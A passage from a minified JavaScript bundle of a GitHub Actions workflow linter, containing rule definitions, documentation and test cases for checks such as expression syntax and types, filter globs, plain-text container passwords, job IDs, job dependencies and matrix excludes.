        default: foo
      d:
        type: number
        default: hello
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:4,col:7,message:'input type of "a" is "choice" but "options" is not set'},{line:8,col:25,message:'option "x" is duplicated'},{line:9,col:18,message:'default value "z" of "b" input is not included in its options'},{line:10,col:7,message:'"options" can not be set to "c" input'},{line:13,col:18,message:"typed as boolean"},{line:16,col:18,message:"cannot be parsed as a number"}]},{name:"workflow_call defaults",input:`on:
  workflow_call:
    inputs:
      n:
        type: number
        default: foooo
      b:
        type: boolean
        default: '123'
      r:
        type: string
        required: true
        default: a
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:6,col:18,message:"cannot be parsed as a number"},{line:9,col:18,message:"typed as boolean"},{line:13,col:18,message:"it is also required",severity:"warning"}]},{name:"more than 25 dispatch inputs",input:`on:
  workflow_dispatch:
    inputs:
${Array.from({length:26},(n,e)=>`      i${e}:
        type: string
`).join("")}jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:2,col:3,message:"maximum number of inputs"}]},{name:"valid inputs",input:`on:
  workflow_dispatch:
    inputs:
      env:
        type: choice
        options: [a, b]
        default: b
      dry:
        type: boolean
        default: false
      n:
        type: number
        default: '3'
      where:
        type: environment
      s:
        default: x
  workflow_call:
    inputs:
      flag:
        type: boolean
        default: \${{ github.event_name == 'push' }}
      opt:
        type: string
        required: false
        default: x
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]}]},Jw=K$;var J$={id:"expression-placement",language:"workflow",severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"A value that must be a literal of a type or one single `${{ }}` (booleans such as `continue-on-error`, numbers such as `timeout-minutes`, an `env:` mapping), or a `${{ }}` where GitHub does not evaluate expressions (`uses`).",why:"`continue-on-error: yes please` or `timeout-minutes: ${{ x }}0` are rejected by GitHub, and `uses: ${{ ... }}` is never evaluated.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    timeout-minutes: \${{ vars.T }} minutes
    steps:
      - run: echo hi
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    timeout-minutes: \${{ fromJSON(vars.T) }}
    steps:
      - run: echo hi
`},check(n){ze(n,"expression-placement")},tests:[{name:"plain text where a boolean, an integer or a mapping is expected",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    continue-on-error: maybe
    strategy:
      max-parallel: \${{ 1 }}\${{ 2 }}
    env: FOO=1
    steps:
      - uses: \${{ vars.ACTION }}
`,expect:[{line:5,col:24,message:"boolean literal"},{line:7,message:"integer literal"},{line:8,message:'mapping value for "env"'},{line:10,message:"not evaluated"}]},{name:"literals and single expressions",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    continue-on-error: \${{ github.ref == 'x' }}
    timeout-minutes: 10
    env: \${{ fromJSON(vars.ENV) }}
    steps:
      - run: echo
        continue-on-error: true
`,expect:[]}]},Xw=J$;var X$={id:"expression-syntax",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"A `${{ }}` expression (or an `if:` condition) that GitHub cannot parse: bad characters, double-quoted strings, unbalanced parentheses, a missing `}}`.",why:"GitHub rejects the whole workflow when one expression does not parse, and only tells you after the push. The finding points at the exact character inside the expression.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event_name == "push" }}"
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event_name == 'push' }}"
`},check(n){ze(n,"expression-syntax")},tests:[{name:"double-quoted string inside an expression",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.ref == "main" }}"
`,expect:[{line:6,col:38,message:"only single quotes"}]},{name:"missing closing braces",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ github.ref
`,expect:[{line:6,message:'"}}" is missing'}]},{name:"unbalanced parentheses in a bare if",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    if: (github.ref == 'x'
    steps:
      - run: echo
`,expect:[{line:5,message:"unbalanced parentheses"}]},{name:"position inside a literal block scalar",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo one
          echo \${{ github.ref = 1 }}
`,expect:[{line:8,col:31,message:"'='"}]},{name:"position inside a single-quoted scalar with escaped quotes",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: 'it''s \${{ github.ref ] }}'
`,expect:[{line:6,col:36,message:'unexpected "]"'}]},{name:"valid expressions of every kind",input:"on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    if: github.ref == 'refs/heads/main' && !cancelled()\n    steps:\n      - run: echo ${{ 0x1F }} ${{ 1.5e3 }} ${{ -2 }} ${{ 'it''s' }} ${{ null }} ${{ github.event.commits[0].message }} ${{ toJSON(github.event.commits.*.id) }}\n",expect:[]}]},Zw=X$;var Z$={id:"expression-type",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"Type errors in expressions: wrong number or types of function arguments, `format()` placeholders that do not match its arguments, broken JSON given to `fromJSON()`, objects printed into strings, comparisons that are always false.",why:"These expressions run but do not do what they say: `format('{0} {1}', a)` fails at run time, comparing a string with an object is always false, and `${{ github.event }}` prints `Object`.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ format('{0}-{1}', github.ref) }}
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ format('{0}-{1}', github.ref, github.sha) }}
`},check(n){ze(n,"expression-type")},tests:[{name:"arity and placeholders",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ startsWith(github.ref) }} \${{ format('{0}', 1, 2) }}
`,expect:[{line:6,col:23,message:"number of arguments is wrong"},{line:6,message:"does not contain placeholder {1}",severity:"warning"}]},{name:"broken JSON and object in a template",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ fromJSON('{"a":') }} \${{ github.event }}
`,expect:[{line:6,message:"broken JSON"},{line:6,message:"should not be evaluated in template",severity:"warning"}]},{name:"comparison with an object is a warning",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        if: github.ref == fromJSON('{}')
`,expect:[{line:7,message:"cannot be compared",severity:"warning"}]},{name:"typed keys",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    continue-on-error: \${{ github.ref }}
    container:
      image: x
      credentials: \${{ github.ref }}
    steps:
      - run: echo
`,expect:[{line:5,message:"must be bool"},{line:8,message:"must be object"}]},{name:"a number, boolean or null index of an object reads the key of that text; an object index does not",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    services:
      redis:
        image: redis
        ports: ['6379/tcp']
    steps:
      - run: echo \${{ job.services.redis.ports[6379] }} \${{ job.services.redis.ports[true] }} \${{ job.services.redis.ports[null] }} \${{ job.services.redis.ports[github.run_number] }}
      - run: echo \${{ job.services.redis.ports[job.services] }}
`,expect:[{line:11,col:48,message:'property access of object must be type of string but got "{string => {id: string; network: string; ports: {string => string}}}"'}]},{name:"a number or boolean worked out at run time, on an object with no such key, is always null",input:`on:
  workflow_dispatch:
    inputs:
      n:
        type: number
      b:
        type: boolean
jobs:
  a:
    runs-on: ubuntu-latest
    services:
      redis:
        image: redis
        ports: ['6379/tcp']
    steps:
      - run: echo \${{ github[inputs.n] }} \${{ github[inputs.b] }}
      - run: echo \${{ job.services.redis.ports[inputs.n] }} \${{ github.event.inputs[inputs.n] }}
`,expect:[{line:16,col:30,message:'property access of object must be type of string but got "number": GitHub reads the key of its text (such as "1"), which this object does not have, so the result is always null'},{line:16,col:54,message:'property access of object must be type of string but got "bool": GitHub reads the key of its text (such as "true")'},{line:17,col:85,message:'got "number"'}]},{name:"an array indexed by a literal string of digits reads that element",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ github.event.*['0'] }} \${{ github.event.*[github.ref] }}
`,expect:[{line:6,col:65,message:'index access of array must be type of number but got "string"'}]},{name:"well-typed expressions",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    timeout-minutes: \${{ fromJSON(vars.T) }}
    steps:
      - run: echo \${{ format('{0}{{x}}', github.ref) }} \${{ join(github.event.commits.*.id, ',') }} \${{ contains(fromJSON('["a"]'), github.ref) }} \${{ toJSON(github.event) }}
`,expect:[]}]},Qw=Z$;var vt="note: filter pattern syntax is explained at https://docs.github.com/en/actions/using-workflows/workflow-syntax-for-github-actions#filter-pattern-cheat-sheet",Q$=new Set(["branches","branches-ignore","tags","tags-ignore"]),eC=new Set(["paths","paths-ignore"]),tC=new Set(["names","versions"]);function nC(n,e){let t=[];if(n==="")return t;if(e==="path"&&n!==n.trim())return t.push({at:0,message:`leading and trailing spaces are not allowed in glob path. ${vt}`}),t;let s=0;if(n[0]==="!"){if(n.length===1)return[{at:0,message:`invalid glob pattern: at least one character must follow "!" (a negated pattern). ${vt}`}];s=1}let i=n.slice(s);for(e==="path"&&i.split("/").some(r=>r==="."||r==="..")&&t.push({at:0,message:`'.' and '..' are not allowed in glob path. ${vt}`}),e==="ref"&&(i.startsWith("/")&&t.push({at:s,message:`character '/' is invalid for branch and tag names. ref name must not start with /. see \`man git-check-ref-format\`. note that regular expressions are not available. ${vt}`}),/[/.]$/.test(i)&&!i.endsWith("*")&&t.push({at:n.length-1,message:`character '${n[n.length-1]}' is invalid for branch and tag names. ref name must not end with / or . (see \`man git-check-ref-format\`). ${vt}`}));s<n.length;s++){let r=n[s];if(r==="\\"){let o=n[s+1];e==="ref"&&(o===void 0||!"[?+*\\!".includes(o))&&t.push({at:s,message:`character '\\' is invalid for branch and tag names. only special characters [, ?, +, *, \\, ! can be escaped with \\. note that regular expressions are not available. ${vt}`}),s++;continue}if(r==="["){let o=n.indexOf("]",s+1);if(o<0){t.push({at:n.length-1,message:`invalid glob pattern: missing "]" to close the character match "[" at ${s+1}. ${vt}`});break}let a=n.slice(s+1,o);a.length===1&&t.push({at:o,message:`character match with a single character is useless: simply use ${a} instead of [${a}]. ${vt}`,severity:"info"});for(let c=0;c+2<a.length;c++)a[c+1]==="-"&&a[c]>a[c+2]&&(t.push({at:s+1+c+2,message:`invalid glob pattern: start of range '${a[c]}' is larger than its end '${a[c+2]}' in [${a}]. ${vt}`}),c+=2);s=o;continue}if(e==="ref"&&/[\s~^:]/.test(r)){t.push({at:s,message:`character '${r}' is invalid for branch and tag names. ref name cannot contain spaces, ~, ^, :. see \`man git-check-ref-format\`. note that regular expressions are not available. ${vt}`});break}e!=="ref"&&r===`
`&&s===n.length-1&&t.push({at:0,message:`leading and trailing spaces are not allowed in glob path. ${vt}`})}return t}var sC={id:"glob-pattern",language:"workflow",severity:"error",compat:{actionlint:"glob"},docs:{summary:"Branch, tag and path filters must be valid filter patterns: brackets closed, ranges in order, no characters git forbids in ref names, no `.`/`..` segments or surrounding spaces in paths, and `!` followed by a pattern.",why:"An invalid pattern makes the trigger never match (or GitHub reject the workflow), and the filters are regular-expression-like enough that `v\\d+` or `[x]` look right but are not.",bad:`on:
  push:
    tags: ['v\\d+']
    paths: ['./src/**']
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`,good:`on:
  push:
    tags: ['v[0-9]+']
    paths: ['src/**']
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`},check({model:n,report:e}){let t=K(n),s=(i,r)=>{if(!F(i)||typeof i.value!="string"||i.value.includes("${{"))return;let o=nC(i.value,r);if(!o.length)return;let a=wt(i,n.text);for(let c of o){let l;a?.exact?l=n.lines.range(a.offsets[c.at]??i.range[0],(a.offsets[c.at]??i.range[0])+1):l=n.rangeOf(i),e({message:c.message,range:l,severity:c.severity})}};for(let i of t.events)if(L(i.config))for(let[r,o]of Y(n,i.config)){let a=Q$.has(r)?"ref":eC.has(r)?"path":tC.has(r)&&i.name==="image_version"?"other":void 0;if(!a)continue;let c=T(n,o.value);if(G(c))for(let l of c.items)s(T(n,l),a);else s(c,a)}},tests:[{name:"ref names",input:`on:
  push:
    branches:
      - '[x]'
      - 'a b'
    tags:
      - /v\\d+/
      - v[0-
      - v[9-0]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:4,col:12,message:"single character",severity:"info"},{line:5,col:11,message:"character ' ' is invalid"},{line:7,col:9,message:"must not start with /"},{line:7,col:11,message:"character '\\' is invalid"},{line:7,col:14,message:"must not end with /"},{line:8,col:12,message:'missing "]"'},{line:9,col:13,message:"start of range '9' is larger than its end '0'"}]},{name:"paths",input:`on:
  pull_request:
    paths:
      - '!'
      - ' foo'
      - './foo/bar.txt'
      - |
        foo.txt
  image_version:
    versions: ['v[0-']
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:4,col:10,message:'at least one character must follow "!"'},{line:5,col:10,message:"leading and trailing spaces"},{line:6,col:10,message:"'.' and '..' are not allowed"},{line:8,col:9,message:"leading and trailing spaces"},{line:10,col:20,message:'missing "]"'}]},{name:"valid patterns",input:`on:
  push:
    branches: ['**', 'release/v12', 'feature/*', '!wip/**', 'v[0-9]+.*']
    tags: ['v*', 'v\\*']
    paths: ['src/**/*.ts', '!docs/**', '**.md', 'foo\\bar', '.github/workflows/*.yml']
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]}]},ev=sC;var iC={id:"hardcoded-credentials",language:"workflow",severity:"warning",compat:{actionlint:"credentials"},docs:{summary:"A container or service `credentials.password` written as plain text instead of `${{ secrets.NAME }}`.",why:"Everyone who can read the repository can read the password, and it stays in the Git history after it is removed. Store it as a secret.",bad:`on: push
jobs:
  test:
    runs-on: ubuntu-latest
    container:
      image: ghcr.io/acme/build:1
      credentials:
        username: ci
        password: hunter2
    steps:
      - run: make test
`,good:`on: push
jobs:
  test:
    runs-on: ubuntu-latest
    container:
      image: ghcr.io/acme/build:1
      credentials:
        username: ci
        password: \${{ secrets.REGISTRY_PASSWORD }}
    steps:
      - run: make test
`},check({model:n,report:e}){for(let t of K(n).jobs){let s=(r,o)=>{if(!L(r))return;let a=T(n,Y(n,r).get("credentials")?.value);if(!L(a))return;let c=T(n,Y(n,a).get("password")?.value),l=P(c);l===void 0||!F(c)||l.trim()===""||l.includes("${{")||e({message:`"password" section in ${o} should be specified via secrets. do not put password value directly`,range:n.rangeOf(c)})};s(T(n,t.pairs.get("container")?.value),'"container" section');let i=T(n,t.pairs.get("services")?.value);if(L(i))for(let r of i.items)s(T(n,r.value),`${JSON.stringify(P(r.key)??"")} service`)}},tests:[{name:"container and service passwords",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    container:
      image: x
      credentials:
        username: u
        password: pass
    services:
      redis:
        image: redis
        credentials:
          username: u
          password: "p@ss"
    steps:
      - run: echo
`,expect:[{line:9,col:19,message:'"password" section in "container" section should be specified via secrets'},{line:15,col:21,message:'"redis" service'}]},{name:"secrets and expressions",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    container:
      image: x
      credentials:
        username: \${{ github.actor }}
        password: \${{ secrets.GITHUB_TOKEN }}
    steps:
      - run: echo
`,expect:[]}]},tv=iC;var rC={id:"if-always-true",language:"workflow",severity:"error",compat:{actionlint:"if-cond"},docs:{summary:"An `if:` whose value has text around its `${{ }}`, which makes it a non-empty string: always true.",why:"`if: ${{ false }} && ${{ false }}` or a trailing space after `}}` is not evaluated as a condition: the result is a string, and every non-empty string is true, so the job or step always runs.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo deploy
        if: \${{ github.ref == 'refs/heads/main' }} && \${{ github.event_name == 'push' }}
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo deploy
        if: \${{ github.ref == 'refs/heads/main' && github.event_name == 'push' }}
`},check(n){ze(n,"if-always-true")},tests:[{name:"negation outside the braces",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        if: '!\${{ cancelled() }}'
`,expect:[{line:7,col:13,message:"always evaluated to true"}]},{name:"trailing newline of a block scalar",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        if: |
          \${{ false }}
`,expect:[{line:7,message:"always evaluated to true"}]},{name:"single expression or bare condition",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    if: \${{ github.ref == 'x' }}
    steps:
      - run: echo
        if: github.ref == 'x'
`,expect:[]}]},nv=rC;var sv=/^[A-Za-z_][A-Za-z0-9_-]*$/,oC={id:"invalid-id",language:["workflow","action"],severity:"error",compat:{actionlint:"id"},docs:{summary:"Job and step ids must start with a letter or `_` and contain only letters, digits, `-` and `_`; step ids must be unique within a job (ignoring case).",why:"GitHub rejects the workflow. Ids are what `needs`, `needs.<id>.outputs` and `steps.<id>.outputs` refer to, so a version number (`v1.2`) or a duplicate id breaks those references.",bad:`on: push
jobs:
  build-1.0:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: echo "v=1" >> "$GITHUB_OUTPUT"
      - id: version
        run: echo done
`,good:`on: push
jobs:
  build-1_0:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: echo "v=1" >> "$GITHUB_OUTPUT"
      - id: done
        run: echo done
`},check({model:n,report:e}){for(let s of K(n).jobs)!sv.test(s.id)&&!s.id.includes("${{")&&e({message:`invalid job ID ${JSON.stringify(s.id)}. job ID must start with a letter or _ and contain only alphanumeric characters, -, or _`,range:s.keyRange});let t=new Map;for(let{job:s,step:i}of xe(n)){if(i.id===void 0||!i.idNode||i.id.includes("${{"))continue;let r=n.rangeOf(i.idNode);if(!sv.test(i.id)){e({message:`invalid step ID ${JSON.stringify(i.id)}. step ID must start with a letter or _ and contain only alphanumeric characters, -, or _`,range:r});continue}let o=s?.id??"",a=t.get(o);a||t.set(o,a=new Map);let c=a.get(i.id.toLowerCase());c?e({message:`step ID ${JSON.stringify(i.id)} duplicates. previously defined at step:${c.index+1} line:${c.line},col:${c.col}. step ID must be unique within a job. note that step ID is case insensitive`,range:r}):a.set(i.id.toLowerCase(),{line:r.start.line+1,col:r.start.character+1,index:i.index})}},tests:[{name:"invalid job and step ids",input:`on: push
jobs:
  -foo:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        id: v1.2.3
  1-2-3:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        id: "-x"
`,expect:[{line:3,col:3,message:'invalid job ID "-foo"'},{line:7,col:13,message:'invalid step ID "v1.2.3"'},{line:8,col:3,message:'invalid job ID "1-2-3"'},{line:12,col:13,message:'invalid step ID "-x"'}]},{name:"duplicate step ids (case-insensitive)",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - id: build
        run: echo
      - id: Build
        run: echo
  b:
    runs-on: ubuntu-latest
    steps:
      - id: build
        run: echo
`,expect:[{line:8,col:13,message:'step ID "Build" duplicates. previously defined at step:1 line:6,col:13'}]},{name:"composite action steps",path:"action.yml",input:`name: a
description: d
runs:
  using: composite
  steps:
    - id: x.y
      run: echo
      shell: bash
`,expect:[{line:6,col:11,message:'invalid step ID "x.y"'}]},{name:"valid ids",input:`on: push
jobs:
  _build-all_2:
    runs-on: ubuntu-latest
    steps:
      - id: step_1
        run: echo
      - id: Step-2
        run: echo
`,expect:[]}]},iv=oC;var aC={id:"job-needs",language:"workflow",severity:"error",compat:{actionlint:"job-needs"},docs:{summary:"`needs:` must name jobs of the same workflow, without cycles; a job listed twice is a warning.",why:"GitHub rejects a workflow whose `needs` names a missing job or forms a cycle \u2014 often after a job was renamed.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
  deploy:
    needs: biuld
    runs-on: ubuntu-latest
    steps:
      - run: make deploy
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
  deploy:
    needs: build
    runs-on: ubuntu-latest
    steps:
      - run: make deploy
`},check({model:n,report:e}){let t=K(n),s=t.jobs.map(c=>c.id);for(let c of t.jobs){let l=new Set;for(let u of c.needs){if(u.name.includes("${{"))continue;let p=n.rangeOf(u.node),d=u.name.toLowerCase();if(l.has(d)){e({message:`job ID ${JSON.stringify(u.name)} is duplicated in "needs" section of job ${JSON.stringify(c.id)}`,range:p,severity:"warning"});continue}if(l.add(d),t.jobById.has(d))d===c.id.toLowerCase()&&(e({message:`job ${JSON.stringify(c.id)} needs itself`,range:p}),l.add(d));else{let f=ae(u.name,s.filter(h=>h!==c.id),u.name.length>=4?2:1);e({message:`job ${JSON.stringify(c.id)} needs job ${JSON.stringify(u.name)} which does not exist in this workflow`+(f?`. Did you mean ${JSON.stringify(f)}?`:""),range:p,fixes:f?[{title:`Change to "${f}"`,preferred:!0,edits:[{range:p,newText:f}]}]:void 0})}}}let i=new Map,r=[],o=new Set,a=c=>{i.set(c,1),r.push(c);let l=t.jobById.get(c);for(let u of l.needs){let p=u.name.toLowerCase();if(!(!t.jobById.has(p)||p===c))if(i.get(p)===1){let d=r.slice(r.indexOf(p)),f=[...d].sort().join(",");if(!o.has(f)){o.add(f);let m=d.map(v=>t.jobById.get(v)).reduce((v,O)=>v.keyRange.start.line<=O.keyRange.start.line?v:O),g=d.indexOf(m.id.toLowerCase()),w=[...d.slice(g),...d.slice(0,g)].map(v=>t.jobById.get(v).id);e({message:`cyclic dependencies in "needs" job configurations are detected. detected cycle is ${[...w,w[0]].map(v=>JSON.stringify(v)).join(" -> ")}`,range:m.keyRange})}}else i.has(p)||a(p)}r.pop(),i.set(c,2)};for(let c of t.jobs)i.has(c.id.toLowerCase())||a(c.id.toLowerCase())},tests:[{name:"unknown job with a fix",input:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
  test:
    needs: [biuld, lint]
    runs-on: ubuntu-latest
    steps:
      - run: make
`,expect:[{line:8,col:13,message:'needs job "biuld" which does not exist in this workflow. Did you mean "build"?'},{line:8,col:20,message:'"lint"'}]},{name:"cycles and duplicates",input:`on: push
jobs:
  a:
    needs: c
    runs-on: ubuntu-latest
    steps:
      - run: echo
  b:
    needs: [a, A]
    runs-on: ubuntu-latest
    steps:
      - run: echo
  c:
    needs: b
    runs-on: ubuntu-latest
    steps:
      - run: echo
  d:
    needs: d
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:3,col:3,message:'detected cycle is "a" -> "c" -> "b" -> "a"'},{line:9,col:16,message:"duplicated",severity:"warning"},{line:19,col:12,message:"needs itself"}]},{name:"valid needs (case-insensitive)",input:`on: push
jobs:
  Build:
    runs-on: ubuntu-latest
    steps:
      - run: echo
  test:
    needs: build
    runs-on: ubuntu-latest
    steps:
      - run: echo
  deploy:
    needs: [Build, test]
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]}]},rv=aC;var ov=20,cC=1e3,Bi={value:void 0,height:0,size:0};function cv(n,e,t,s=0){let i=T(n,e),r=t.get(i);if(r)return r;if(s>ov)return Bi;t.set(i,Bi);let o=Bi;if(F(i))o=typeof i.value=="string"&&i.value.includes("${{")?Bi:{value:i.value,height:0,size:1};else if(G(i)||L(i)){let a=0,c=1,l=G(i)?[]:{};for(let u of i.items){let p=L(i)?P(u.key):void 0,d=cv(n,L(i)?u.value:u,t,s+1);if(a=Math.max(a,d.height+1),c+=d.size,d.value===void 0||L(i)&&p===void 0||a>ov||c>cC){l=void 0;break}Array.isArray(l)?l.push(d.value):l[p]=d.value}o=l===void 0?Bi:{value:l,height:a,size:c}}else i===null&&(o={value:null,height:0,size:1});return t.set(i,o),o}function Gi(n,e){if(n===e)return!0;if(typeof n=="string"&&typeof e=="string")return n.toLowerCase()===e.toLowerCase();if(n===null||e===null||typeof n!="object"||typeof e!="object")return String(n)===String(e)&&typeof n==typeof e;if(Array.isArray(n)!==Array.isArray(e))return!1;let t=Object.keys(n),s=Object.keys(e);return t.length===s.length&&t.every(i=>s.includes(i)&&Gi(n[i],e[i]))}var Gp=n=>JSON.stringify(n).replace(/,"/g,', "').replace(/":/g,'": ').replace(/","/g,'", "').replace(/,(?=[[{"\d])/g,", "),lC={id:"matrix",language:"workflow",severity:"error",compat:{actionlint:"matrix"},docs:{summary:"`strategy.matrix.exclude` entries must use keys of the matrix (an error) and values that occur in it (a warning: the entry excludes nothing); a value listed twice in a matrix row is a warning.",why:"GitHub rejects an exclude with a key the matrix does not have, and an exclude with a misspelt value silently keeps the combinations you meant to skip.",bad:`on: push
jobs:
  test:
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
        node: [20, 22]
        exclude:
          - os: windows
            node: 20
    runs-on: \${{ matrix.os }}
    steps:
      - run: npm test
`,good:`on: push
jobs:
  test:
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
        node: [20, 22]
        exclude:
          - os: windows-latest
            node: 20
    runs-on: \${{ matrix.os }}
    steps:
      - run: npm test
`},check({model:n,report:e}){let t=new Map,s=i=>cv(n,i,t).value;for(let i of K(n).jobs){let r=T(n,i.pairs.get("strategy")?.value);if(!L(r))continue;let o=T(n,Y(n,r).get("matrix")?.value);if(!L(o))continue;let a=new Map,c,l=!1;for(let p of o.items){let d=P(p.key);if(d===void 0||(d.includes("${{")&&(l=!0),d==="include"))continue;if(d==="exclude"){c=T(n,p.value);continue}let f=T(n,p.value);if(!G(f)){a.set(d.toLowerCase(),{name:d,values:void 0});continue}let h=[],m=!0;for(let g of f.items){let w=s(g);w===void 0?m=!1:(h.some(v=>Gi(v.value,w))&&e({message:`duplicate value ${Gp(w)} is found in matrix ${JSON.stringify(d)}. the same value is at line:${n.rangeOf(h.find(v=>Gi(v.value,w)).node).start.line+1}`,range:n.rangeOf(T(n,g)),severity:"warning"}),h.push({value:w,node:T(n,g)}))}a.set(d.toLowerCase(),{name:d,values:m?h:void 0})}if(l||!G(c)||a.size===0)continue;let u=[...a.values()].map(p=>p.name);for(let p of c.items){let d=T(n,p);if(L(d))for(let f of d.items){let h=P(f.key);if(h===void 0||h.includes("${{"))continue;let m=a.get(h.toLowerCase());if(!m){let v=ae(h,u),O=n.keyRange(f);e({message:`${JSON.stringify(h)} in "exclude" section does not exist in matrix. available matrix configurations are ${u.sort().map(S=>JSON.stringify(S)).join(", ")}`+(v?`. Did you mean ${JSON.stringify(v)}?`:""),range:O,fixes:v?[{title:`Change to "${v}"`,preferred:!0,edits:[{range:O,newText:v}]}]:void 0});continue}if(!m.values)continue;let g=s(f.value);if(g===void 0)continue;m.values.some(v=>Gi(v.value,g)||av(g)&&av(v.value)&&Object.entries(g).every(([O,S])=>O in v.value&&Gi(v.value[O],S)))||e({message:`value ${Gp(g)} in "exclude" does not match in matrix ${JSON.stringify(m.name)} combinations. possible values are ${m.values.map(v=>Gp(v.value)).join(", ")}`,range:n.rangeOf(T(n,f.value)),severity:"warning"})}}}},tests:[{name:"exclude keys and values",input:`on: push
jobs:
  a:
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
        node: [20, 22]
        exclude:
          - operating-system: ubuntu-latest
          - os: macos-latest
            node: 20
          - nod: 22
    runs-on: \${{ matrix.os }}
    steps:
      - run: echo
`,expect:[{line:9,col:13,message:'"operating-system" in "exclude" section does not exist in matrix. available matrix configurations are "node", "os"'},{line:10,col:17,message:'value "macos-latest" in "exclude" does not match',severity:"warning"},{line:12,col:13,message:'Did you mean "node"'}]},{name:"object values and duplicates",input:`on: push
jobs:
  a:
    strategy:
      matrix:
        os:
          - {runner: ubuntu-latest, name: Ubuntu}
        v: [1, 2, 1]
        exclude:
          - os: {runner: windows-latest}
          - os: {runner: ubuntu-latest}
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:8,col:19,message:"duplicate value 1",severity:"warning"},{line:10,col:17,message:'value {"runner": "windows-latest"} in "exclude" does not match',severity:"warning"}]},{name:"values through aliases are compared",input:`on: push
jobs:
  a:
    strategy:
      matrix:
        os: &o [ubuntu-latest, windows-latest]
        v: [{a: *o}, {a: *o}]
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:7,col:22,message:'duplicate value {"a": ["ubuntu-latest", "windows-latest"]}',severity:"warning"}]},{name:"values of anchors that alias each other are not expanded",input:`on: push
x0: &a0 [ubuntu-latest, ubuntu-latest, ubuntu-latest, ubuntu-latest, ubuntu-latest, ubuntu-latest, ubuntu-latest, ubuntu-latest, ubuntu-latest]
x1: &a1 [*a0, *a0, *a0, *a0, *a0, *a0, *a0, *a0, *a0]
x2: &a2 [*a1, *a1, *a1, *a1, *a1, *a1, *a1, *a1, *a1]
x3: &a3 [*a2, *a2, *a2, *a2, *a2, *a2, *a2, *a2, *a2]
x4: &a4 [*a3, *a3, *a3, *a3, *a3, *a3, *a3, *a3, *a3]
x5: &a5 [*a4, *a4, *a4, *a4, *a4, *a4, *a4, *a4, *a4]
jobs:
  a:
    strategy:
      matrix:
        os: *a5
        exclude:
          - os: *a4
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]},{name:"valid and dynamic matrices",input:`on: push
jobs:
  a:
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
        exclude:
          - os: Windows-Latest
        include:
          - os: macos-latest
            extra: 1
    runs-on: \${{ matrix.os }}
    steps:
      - run: echo
  b:
    strategy:
      matrix:
        os: \${{ fromJSON(inputs.oses) }}
        exclude:
          - os: x
    runs-on: ubuntu-latest
    steps:
      - run: echo
